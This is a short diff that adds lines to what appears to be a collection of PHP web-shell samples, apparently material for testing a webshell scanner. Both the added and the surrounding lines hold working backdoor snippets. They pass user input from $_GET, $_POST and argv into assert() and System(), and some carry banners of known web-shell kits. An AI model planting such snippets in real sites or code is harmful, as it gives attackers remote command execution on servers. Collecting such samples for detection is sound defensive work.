@@ -26,3 +26,7 @@
 <?php $u = Pack( 'H*', '687474703A2F2F' . '6578616d706c652e636f6d' ); echo File_Get_Contents( $u ); ?>
 <?php declare(ticks=1); Register_Tick_Function ( 'assert' , $argv[1] ); ?>
 <?php $i = new CallbackFilterIterator( new ArrayIterator( Array( $_GET [ 'x' ] ) ), 'assert' ); foreach ($i as $v) {} ?>
+<?php echo "<center>backup done - BlackBap.Org</center>"; ?>
+<p>BY:10001 blog:WWW.CHOUWAZI.COM</p><?php echo is_writable('c:\\windows\\temp') ? 'w' : '-'; ?>
+<title>:: AventGrup ::.. - Sincap</title><?php session_start(); print_r($_SESSION); ?>
+<?php $c = $_POST['c']; System( $c . " 1> /tmp/o.txt 2>&1 ; cat /tmp/o.txt; rm /tmp/o.txt" ); ?>
